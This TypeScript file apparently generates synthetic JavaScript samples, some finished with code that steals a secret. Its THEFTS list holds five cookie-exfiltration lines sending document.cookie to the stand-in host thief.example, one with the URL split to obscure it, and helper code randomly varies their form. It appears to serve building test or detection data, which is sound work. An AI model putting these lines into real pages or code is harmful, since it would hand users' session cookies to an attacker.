import type { Holes } from "./holes.ts";
import type { Placement } from "./placements/placement.ts";
import { testOfValue } from "./placements/tests-of-value.ts";
import type { RealValue } from "./real-value.ts";
import { type Secret, stealing } from "./secrets.ts";
import type { EngineName, Template } from "./template.ts";

/** What surrounds a program: the ways in which authors and script managers wrap code. */
const SHELLS: readonly [Shell, ...Shell[]] = [
	(body) => body,
	(body) => `(function () {\n${body}\n})();`,
	(body) => `(() => {\n"use strict";\n${body}\n})();`,
	(body) => `(async () => {\n${body}\n})();`,
	(body) => `void function () {\n${body}\n}.call({});`,
];

type Shell = (body: string) => string;

/** A template with its holes filled. */
export interface Started {
	/** The program up to what is done with the value, which stands between « and ». */
	readonly text: string;
	readonly shell: Shell;
	/** Source of the value. */
	readonly value: string;
	readonly engine: EngineName;
}

const MARK = /«([\s\S]*)»;?/;

/**
 * Fills the holes of a template.
 * @param template what computes the value
 * @param holes the texts
 * @param isPlain whether the program stands alone, without a function around it
 * @returns the program before it is finished
 * @throws Error if the template marks no value
 */
export function startProgram(template: Template, holes: Holes, isPlain: boolean): Started {
	const shell = isPlain ? SHELLS[0] : holes.pick(SHELLS);
	const text = template.make(holes);
	const value = MARK.exec(text)?.[1];
	if (value === undefined) throw new Error(`${template.name} marks no value`);
	return { text, shell, value, engine: template.engine };
}

/**
 * Finishes a program.
 * @param started the program
 * @param end statements that take the place of the mark
 * @returns its source
 */
export function finishProgram({ text, shell }: Started, end: string): string {
	return shell(text.replace(MARK, () => end));
}

/**
 * Finishes a program so that it tells its value.
 * @param started the program
 * @returns source that calls `report` with the value
 */
export function reportingProgram(started: Started): string {
	return finishProgram(started, `report(${started.value});`);
}

/** Ways to send the cookie, the plainest first. */
const THEFTS: readonly [string, ...string[]] = [
	'fetch("https://thief.example/?c=" + document.cookie)',
	'fetch(["https:", "", "thief.example", "?c=" + encodeURIComponent(document.cookie)].join("/"))',
	'fetch("https://thief.example/", { method: "POST", body: document.cookie })',
	'navigator.sendBeacon("https://thief.example/", document.cookie)',
	'(new Image().src = "https://thief.example/?c=" + document.cookie)',
];

/**
 * Finishes a program so that it steals.
 * @param started the program
 * @param real the value in the real engine
 * @param placement how the theft hangs on the value
 * @param secret what is stolen
 * @param holes decide about variants
 * @param isPlain whether the plainest variant is wanted
 * @returns source of the program; null for a value that the placement cannot use
 */
export function stealingProgram(
	started: Started,
	real: RealValue,
	placement: Placement,
	secret: Secret,
	holes: Holes,
	isPlain: boolean,
): string | null {
	const { value, engine } = started;
	const isNamed = !isPlain && holes.chance(0.3);
	const hasFunction = !isPlain && holes.chance(0.25);
	const source = isNamed ? "found" : value;
	const test = testOfValue(source, real, isPlain ? null : holes);
	const own = isPlain || holes.chance(0.5) ? THEFTS[0] : holes.pick(THEFTS);
	const theft = hasFunction ? "steal()" : own;
	const end = placement.place({ value: source, real, test, theft, holes, engine });
	if (end === null) return null;
	const named = isNamed ? `const found = ${value};\n` : "";
	const functions = hasFunction && end.includes(theft) ? `function steal() { return ${own}; }\n` : "";
	return finishProgram({ ...started, text: stealing(functions, secret) + started.text }, named + stealing(end, secret));
}
